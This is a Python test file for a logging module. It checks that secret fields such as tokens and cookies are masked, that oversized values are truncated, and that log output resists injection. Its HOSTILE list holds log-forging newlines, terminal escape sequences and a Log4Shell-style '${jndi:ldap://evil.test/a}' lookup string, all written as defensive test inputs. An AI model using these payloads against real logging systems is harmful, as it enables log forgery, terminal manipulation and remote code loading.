import json
import subprocess
import sys
from collections.abc import Iterator
from types import MappingProxyType

import pytest
import structlog

from vestibule import log

SECRET = "a-value-nobody-may-read"


@pytest.fixture(autouse=True)
def restored() -> Iterator[None]:
    yield
    structlog.reset_defaults()


@pytest.mark.parametrize("as_json", [True, False], ids=["json", "people"])
def test_secret_fields_are_hidden(as_json: bool, capsys: pytest.CaptureFixture[str]) -> None:
    log.configure(json=as_json)
    fields = {name: SECRET for name in log.SECRET_FIELDS if name != "event"}
    log.logger().info("signed in", member_id="member-1", request={"headers": fields}, **fields)
    written = capsys.readouterr().err
    assert "member-1" in written
    assert written.count("[hidden]") == 2 * len(fields)
    assert SECRET not in written


def test_name_of_a_secret_field_may_have_capitals() -> None:
    assert log.hide_secrets(None, "info", {"Authorization": SECRET}) == {
        "Authorization": "[hidden]"
    }


@pytest.mark.parametrize(
    "value",
    [
        [{"token": SECRET}],
        ({"token": SECRET},),
        {"members": [{"sessions": [{"session_token": SECRET}]}]},
        MappingProxyType({"headers": [MappingProxyType({"Cookie": SECRET})]}),
    ],
)
@pytest.mark.parametrize("as_json", [True, False], ids=["json", "people"])
def test_secret_fields_are_hidden_at_any_depth(
    as_json: bool, value: object, capsys: pytest.CaptureFixture[str]
) -> None:
    log.configure(json=as_json)
    log.logger().info("read", value=value)
    written = capsys.readouterr().err
    assert "[hidden]" in written
    assert SECRET not in written


def test_what_is_no_secret_keeps_its_form_in_lists() -> None:
    shown = log.hide_secrets(None, "info", {"value": [1, "two", ["three"], {4: None}]})
    assert shown == {"value": [1, "two", ["three"], {4: None}]}


def test_json_line_carries_level_time_and_fields(capsys: pytest.CaptureFixture[str]) -> None:
    log.configure(json=True)
    log.logger().warning("slow", seconds=3)
    line = json.loads(capsys.readouterr().err)
    assert line.pop("timestamp").endswith("Z")
    assert line == {"event": "slow", "level": "warning", "seconds": 3}


def test_debug_lines_are_not_written(capsys: pytest.CaptureFixture[str]) -> None:
    log.configure(json=True)
    log.logger().debug("noise")
    assert capsys.readouterr().err == ""


HOSTILE = [
    'first\n{"event": "signed in"}',
    "first\r\n2026-11-22T00:00:00Z [info     ] signed in",
    "\x1b[2J\x1b]0;title\x07\x9b31m",
    "first\u2028second\u2029third\x85fourth\x0bfifth\x0csixth",
    "%s %(message)s {0} {event.__class__} ${jndi:ldap://evil.test/a}",
    "\ud800\x00\u202e",
]


@pytest.mark.case("AD-18")
@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("place", ["event", "field", "key", "list", "exception"])
def test_whatever_is_logged_is_one_line(
    value: str, place: str, capsys: pytest.CaptureFixture[str]
) -> None:
    log.configure(json=True)
    write(value, place)
    (line,) = capsys.readouterr().err.splitlines()
    assert all(" " <= c <= "~" for c in line)
    assert value in texts(json.loads(line))


@pytest.mark.case("AD-18")
@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("place", ["event", "field", "key", "list", "exception"])
def test_nothing_in_a_readable_line_steers_the_terminal(
    value: str, place: str, capsys: pytest.CaptureFixture[str]
) -> None:
    log.configure(json=False)
    write(value, place)
    first, *rest = capsys.readouterr().err.removesuffix("\n").split("\n")
    assert all(c.isprintable() for line in [first, *rest] for c in line)
    # A traceback has lines of its own, and none of them looks like an event.
    assert all(line.startswith("  ") for line in rest)
    assert bool(rest) == (place == "exception")


def write(value: str, place: str) -> None:
    if place == "exception":
        log.logger().error("failed", exc_info=ValueError(value))
    else:
        fields = {"field": value, "key": {value: 1}, "list": [{"inner": value}]}
        given = {place: fields[place]} if place in fields else {}
        log.logger().info(value if place == "event" else "said", **given)


def texts(value: object) -> str:
    if isinstance(value, dict):
        return "\n".join([*value, *map(texts, value.values())])
    return "\n".join(map(texts, value)) if isinstance(value, list) else str(value)


@pytest.mark.case("AD-18")
@pytest.mark.parametrize("as_json", [True, False], ids=["json", "people"])
@pytest.mark.parametrize(
    "value",
    [
        "x" * 1_000_000,
        b"x" * 1_000_000,
        ["x" * 100_000] * 1_000,
        {f"{'x' * 10_000}{number}": number for number in range(1_000)},
    ],
    ids=["text", "bytes", "list", "mapping"],
)
def test_a_huge_value_is_cut(
    as_json: bool, value: object, capsys: pytest.CaptureFixture[str]
) -> None:
    log.configure(json=as_json)
    log.logger().info("said", value=value, member_id="member-1")
    log.logger().error("failed", exc_info=ValueError(value))
    written = capsys.readouterr().err
    assert len(written) < 150_000
    assert "member-1" in written
    assert "characters" in written


def test_the_beginning_and_the_end_of_a_long_text_stay(capsys: pytest.CaptureFixture[str]) -> None:
    log.configure(json=True)
    log.logger().info("said", value=f"begin{'x' * 5_000}end", just=f"{'y' * 2_000}")
    line = json.loads(capsys.readouterr().err)
    assert line["value"].startswith("beginx")
    assert line["value"].endswith("xend")
    assert "[… 3008 characters …]" in line["value"]
    assert line["just"] == "y" * 2_000


LIBRARY = """
import asyncio, logging
from vestibule import log
log.configure(json={json})
logging.getLogger("asyncio").info("too much detail")
try:
    raise ValueError("boom\\n2026-11-22 a line of its own")
except ValueError:
    logging.getLogger("aiohttp.server").exception("first\\nsecond \\x1b[2J")
"""


@pytest.mark.case("AD-18")
def test_lines_of_libraries_have_the_same_form() -> None:
    written = said_by(LIBRARY.format(json=True))
    line = json.loads(written)
    assert (line["event"], line["logger"]) == ("first\nsecond \x1b[2J", "aiohttp.server")
    assert "ValueError: boom" in line["exception"]
    first, *rest = said_by(LIBRARY.format(json=False)).splitlines()
    assert "first\\nsecond \\x1b[2J" in first
    assert rest
    assert all(each.startswith("  ") for each in rest)


def said_by(code: str) -> str:
    """Return what a process of its own writes: the one of the tests has other handlers."""
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60
    )
    return done.stderr
